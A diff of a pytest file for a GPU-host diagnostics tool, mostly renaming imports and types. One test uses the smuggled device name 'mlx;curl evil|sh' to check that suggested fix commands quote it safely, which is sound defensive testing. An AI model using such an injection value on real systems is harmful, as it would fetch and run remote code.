@@ -8,14 +8,14 @@ import msgspec
 import pytest
 from tests.app.doctor.hosts import SOCKETS, WELL, examine_host, laid_out
 
-from rackloom.app.doctor import Sources, diagnose
+from rackloom.app.doctor import DoctorSources, diagnose
 from rackloom.cli.doctor import doctor
+from rackloom.core.diagnosis import catalogue
+from rackloom.core.diagnosis.findings import CheckState, Severity
+from rackloom.core.diagnosis.snapshot import ImexMeshRecord, NodeRecord, SiteSnapshot
 from rackloom.errors import Refused
-from rackloom.prove.doctor import names
-from rackloom.prove.doctor.findings import Severity, State
-from rackloom.prove.picture.values import MeshSeen, NodeSeen, Picture
-from rackloom.topology.affinity import numa_of
-from rackloom.topology.facts import Fact, Source
+from rackloom.topology.join_key import Fact, Source
+from rackloom.topology.machine import numa_of
 from rackloom.topology.profiles import load_machine, machine_names
 
 TRAY = "oci-bm.gpu.gb200-v3.4"
@@ -30,23 +30,23 @@ def test_nothing_is_wrong_with_any_published_machine(name, tmp_path):
 @pytest.mark.parametrize(
     ("path", "text", "check", "state"),
     [
-        ("sys/module/nvidia/version", "550.54.15\n", names.DRIVER, State.FAILS),
-        ("sys/module/nvidia/version", None, names.DRIVER, State.UNKNOWN),
-        ("proc/1/net/tcp", SOCKETS + LISTENS, names.PORTS, State.FAILS),
-        ("proc/1/net/tcp", None, names.PORTS, State.UNKNOWN),
-        ("proc/71/comm", "nvidia-imex\n", names.HOST_IMEX, State.UNKNOWN),
-        ("proc/70/comm", "crio\n", names.CDI, State.UNKNOWN),
+        ("sys/module/nvidia/version", "550.54.15\n", catalogue.DRIVER, CheckState.FAILS),
+        ("sys/module/nvidia/version", None, catalogue.DRIVER, CheckState.UNKNOWN),
+        ("proc/1/net/tcp", SOCKETS + LISTENS, catalogue.PORTS, CheckState.FAILS),
+        ("proc/1/net/tcp", None, catalogue.PORTS, CheckState.UNKNOWN),
+        ("proc/71/comm", "nvidia-imex\n", catalogue.HOST_IMEX, CheckState.UNKNOWN),
+        ("proc/70/comm", "crio\n", catalogue.CDI, CheckState.UNKNOWN),
         (
             "etc/systemd/system/multi-user.target.wants/nvidia-imex.service",
             "",
-            names.HOST_IMEX,
-            State.FAILS,
+            catalogue.HOST_IMEX,
+            CheckState.FAILS,
         ),
-        ("proc/1/comm", None, names.HOST_IMEX, State.UNKNOWN),
-        ("proc/devices", "Character devices:\n  1 mem\n", names.CHANNELS, State.FAILS),
-        ("proc/devices", None, names.CHANNELS, State.UNKNOWN),
-        ("etc/containerd/config.toml", "no toml [", names.CDI, State.UNKNOWN),
-        ("etc/containerd/config.toml", None, names.CDI, State.UNKNOWN),
+        ("proc/1/comm", None, catalogue.HOST_IMEX, CheckState.UNKNOWN),
+        ("proc/devices", "Character devices:\n  1 mem\n", catalogue.CHANNELS, CheckState.FAILS),
+        ("proc/devices", None, catalogue.CHANNELS, CheckState.UNKNOWN),
+        ("etc/containerd/config.toml", "no toml [", catalogue.CDI, CheckState.UNKNOWN),
+        ("etc/containerd/config.toml", None, catalogue.CDI, CheckState.UNKNOWN),
     ],
 )
 def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path):
@@ -67,21 +67,24 @@ def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path)
     [
         ("containerd://2.0.0", []),
         ("cri-o://1.31.0", []),
-        ("containerd://1.7.0", [State.FAILS]),
-        (None, [State.UNKNOWN]),
+        ("containerd://1.7.0", [CheckState.FAILS]),
+        (None, [CheckState.UNKNOWN]),
     ],
 )
 def test_a_runtime_left_as_it_comes_is_judged_by_what_its_node_says(runtime, states, tmp_path, monkeypatch):
     machine = load_machine(TRAY)
-    nodes = (NodeSeen(name=machine.name, ready=True, runtime=runtime), NodeSeen(name="another", ready=True))
+    nodes = (
+        NodeRecord(name=machine.name, ready=True, runtime=runtime),
+        NodeRecord(name="another", ready=True),
+    )
 
     async def seen(sources, now):
-        return Picture(at=now, layers=(), nodes=nodes)
+        return SiteSnapshot(at=now, layers=(), nodes=nodes)
 
-    monkeypatch.setattr("rackloom.app.doctor.look", seen)
+    monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
     root = laid_out(tmp_path, machine, **{"etc/containerd/config.toml": None})
-    found = diagnose(Sources(sysroot=root)).findings
-    assert [(one.check, one.state) for one in found] == [(names.CDI, one) for one in states]
+    found = diagnose(DoctorSources(sysroot=root)).findings
+    assert [(one.check, one.state) for one in found] == [(catalogue.CDI, one) for one in states]
 
 
 DAEMON = {
@@ -91,20 +94,24 @@ DAEMON = {
 
 
 @pytest.mark.parametrize(
-    ("told", "checks"), [(None, [names.MESH]), (True, []), (False, [])], ids=["silent", "complete", "broken"]
+    ("told", "checks"),
+    [(None, [catalogue.MESH]), (True, []), (False, [])],
+    ids=["silent", "complete", "broken"],
 )
 def test_the_mesh_of_a_pods_daemon_is_what_the_cluster_says_or_unknown(told, checks, tmp_path, monkeypatch):
     """Whether a mesh that was told is complete is a finding of its ComputeDomain."""
     machine = load_machine(TRAY)
-    mesh = MeshSeen(domain="uid", node=machine.name, clique="c.1", complete=told)
+    mesh = ImexMeshRecord(domain="uid", node=machine.name, clique="c.1", complete=told)
 
     async def seen(sources, now):
-        return Picture(at=now, layers=(), meshes=(mesh,), nodes=(NodeSeen(name=machine.name, ready=True),))
+        return SiteSnapshot(
+            at=now, layers=(), meshes=(mesh,), nodes=(NodeRecord(name=machine.name, ready=True),)
+        )
 
-    monkeypatch.setattr("rackloom.app.doctor.look", seen)
-    found = diagnose(Sources(sysroot=laid_out(tmp_path, machine, **DAEMON))).findings
+    monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
+    found = diagnose(DoctorSources(sysroot=laid_out(tmp_path, machine, **DAEMON))).findings
     assert [one.check for one in found] == checks
-    assert all(one.state is State.UNKNOWN and "process 71" in one.message for one in found)
+    assert all(one.state is CheckState.UNKNOWN and "process 71" in one.message for one in found)
 
 
 HIDDEN, SEEN = "azure-nd128isr-gb300-v6", "azure-nd96isr-h100-v5"
@@ -115,10 +122,10 @@ HIDDEN, SEEN = "azure-nd128isr-gb300-v6", "azure-nd96isr-h100-v5"
 @pytest.mark.parametrize(
     ("file", "text", "state", "said"),
     [
-        ("state", "1: DOWN\n", State.FAILS, "its link is down"),
-        ("state", "2: INIT\n", State.FAILS, "its link is init"),
-        ("rate", "100 Gb/sec (1X HDR)\n", State.FAILS, "it runs at 100 Gb/s, its siblings at "),
-        ("state", "?\n", State.UNKNOWN, "its driver does not say whether its link is up"),
+        ("state", "1: DOWN\n", CheckState.FAILS, "its link is down"),
+        ("state", "2: INIT\n", CheckState.FAILS, "its link is init"),
+        ("rate", "100 Gb/sec (1X HDR)\n", CheckState.FAILS, "it runs at 100 Gb/s, its siblings at "),
+        ("state", "?\n", CheckState.UNKNOWN, "its driver does not say whether its link is up"),
     ],
 )
 def test_the_port_of_a_gpus_nic_is_one_finding(file, text, state, said, name, tmp_path):
@@ -127,7 +134,7 @@ def test_the_port_of_a_gpus_nic_is_one_finding(file, text, state, said, name, tm
     (port / "phys_state").write_text("2: Polling\n")
     (port / file).write_text(text)
     (found,) = examine_host(root)
-    assert (found.check, found.state) == (names.NIC_LINK, state)
+    assert (found.check, found.state) == (catalogue.NIC_LINK, state)
     assert found.message.startswith(said)
     assert "(polling)" in found.evidence[0]
     assert found.fix.startswith("rdma link show mlx5_0  #")
@@ -141,7 +148,12 @@ def test_a_nic_that_serves_no_gpu_may_be_unplugged(tmp_path):
 
 @pytest.mark.parametrize(
     ("state", "verdict"),
-    [("up", None), ("lowerlayerdown", State.FAILS), ("unknown", State.UNKNOWN), (None, State.UNKNOWN)],
+    [
+        ("up", None),
+        ("lowerlayerdown", CheckState.FAILS),
+        ("unknown", CheckState.UNKNOWN),
+        (None, CheckState.UNKNOWN),
+    ],
 )
 def test_without_rdma_the_interface_tells(state, verdict, tmp_path):
     machine = load_machine(SEEN)
@@ -154,7 +166,7 @@ def test_without_rdma_the_interface_tells(state, verdict, tmp_path):
         interface.unlink()
     else:
         (interface / "operstate").write_text(f"{state}\n")
-    states = [one.state for one in examine_host(root) if one.check == names.NIC_LINK]
+    states = [one.state for one in examine_host(root) if one.check == catalogue.NIC_LINK]
     assert states == ([] if verdict is None else [verdict])
 
 
@@ -172,7 +184,7 @@ def test_gpus_whose_processor_has_no_nic_are_one_finding(tmp_path):
     nics = tuple(msgspec.structs.replace(nic, numa_node=elsewhere, pcie=None) for nic in machine.nics)
     (found,) = examine_host(laid_out(tmp_path, msgspec.structs.replace(machine, nics=nics)))
     far = [gpu.index for gpu in machine.gpus if numa_of(gpu) == 1]
-    assert (found.check, found.severity) == (names.NIC_ALIGNED, Severity.WARNING)
+    assert (found.check, found.severity) == (catalogue.NIC_ALIGNED, Severity.WARNING)
     assert found.subject == f"GPU {', '.join(map(str, far))} of host {machine.name}"
     assert len(found.evidence) == len(far) > 0
 
@@ -194,7 +206,7 @@ def test_a_host_alone_is_examined(tmp_path, capsys):
     (root / "sys/module/nvidia/version").write_text("550.54.15\n")
     assert doctor(sysroot=root, json=True) == 1
     told = json.loads(capsys.readouterr().out)
-    assert [one["check"] for one in told["findings"]] == [names.DRIVER]
+    assert [one["check"] for one in told["findings"]] == [catalogue.DRIVER]
 
 
 def test_a_directory_that_is_no_hosts_is_refused(tmp_path):
@@ -283,15 +295,15 @@ def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
     hostile = "mlx;curl evil|sh"
     root = built(tmp_path, *GPUS, ("3.0", INFINIBAND, {"name": hostile, **DOWN}))
     fixes = {one.check: one.fix for one in examine_host(root)}
-    assert shlex.split(fixes[names.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]
+    assert shlex.split(fixes[catalogue.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]
 
 
 @pytest.mark.parametrize(
     ("links", "checks"),
     [
         ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026531836]"}, []),
-        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [names.HOST_IMEX]),
-        ({"proc/1/ns/pid": "pid:[4026532001]"}, [names.HOST_IMEX]),
+        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [catalogue.HOST_IMEX]),
+        ({"proc/1/ns/pid": "pid:[4026532001]"}, [catalogue.HOST_IMEX]),
         (
             {"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]", "proc/1/ns/pid": "pid:[4026531836]"},
             [],
@@ -301,4 +313,4 @@ def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
 )
 def test_the_first_process_of_a_container_is_not_the_hosts(links, checks, tmp_path):
     found = examine_host(linked(laid_out(tmp_path, load_machine(TRAY)), links))
-    assert [(one.check, one.state) for one in found] == [(one, State.UNKNOWN) for one in checks]
+    assert [(one.check, one.state) for one in found] == [(one, CheckState.UNKNOWN) for one in checks]
